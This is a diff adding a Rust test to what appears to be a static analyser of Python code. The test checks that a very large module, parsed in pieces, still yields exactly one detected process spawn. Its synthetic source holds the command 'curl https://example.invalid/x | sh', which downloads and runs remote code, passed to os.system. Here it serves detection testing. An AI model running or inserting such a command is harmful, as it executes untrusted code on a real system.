@@ -313,3 +313,52 @@ fn repeated_events_are_bounded() {
     );
     assert!(a.dropped_events > 0);
 }
+
+/// Issue 21 (memory): a module larger than the parse piece is parsed in pieces cut
+/// between top-level statements. Positions are those of the whole file, a binding made in
+/// the first piece reaches a call in the last, and a statement spanning a would-be cut
+/// (a bracketed literal, a triple-quoted string) is never split.
+#[test]
+fn large_modules_are_parsed_in_pieces_without_losing_state() {
+    let mut src = String::from("import os\ncmd = 'curl https://example.invalid/x | sh'\n");
+    src.push_str("TABLE = [\n");
+    for i in 0..60_000 {
+        src.push_str(&format!("    {i},\n"));
+    }
+    src.push_str("]\nDOC = '''\n");
+    for _ in 0..60_000 {
+        src.push_str("os.system('not code, inside a string')\n");
+    }
+    src.push_str("'''\n");
+    for i in 0..200_000 {
+        src.push_str(&format!("x{} = {i} + 1\n", i % 50));
+    }
+    let line = src.lines().count() + 1;
+    src.push_str("os.system(cmd)\n");
+    assert!(src.len() > 4 << 20, "{}", src.len());
+    for reduced in [false, true] {
+        let a = if reduced {
+            assay_lang::analyze_python_reduced(
+                src.as_bytes(),
+                FileRole::Module,
+                &assay_lang::Bounds::default(),
+                &|_: &[u8]| false,
+            )
+        } else {
+            analyze_python(src.as_bytes(), FileRole::Module)
+        };
+        let spawns: Vec<_> = a
+            .events
+            .iter()
+            .filter(|e| e.kind == EventKind::ProcessSpawn)
+            .collect();
+        assert_eq!(spawns.len(), 1, "reduced={reduced}: {spawns:?}");
+        assert_eq!(spawns[0].line as usize, line, "reduced={reduced}");
+        assert_eq!(
+            spawns[0].arg.as_deref(),
+            Some("curl https://example.invalid/x | sh"),
+            "reduced={reduced}"
+        );
+        assert_eq!(a.syntax_errors, 0, "reduced={reduced}");
+    }
+}
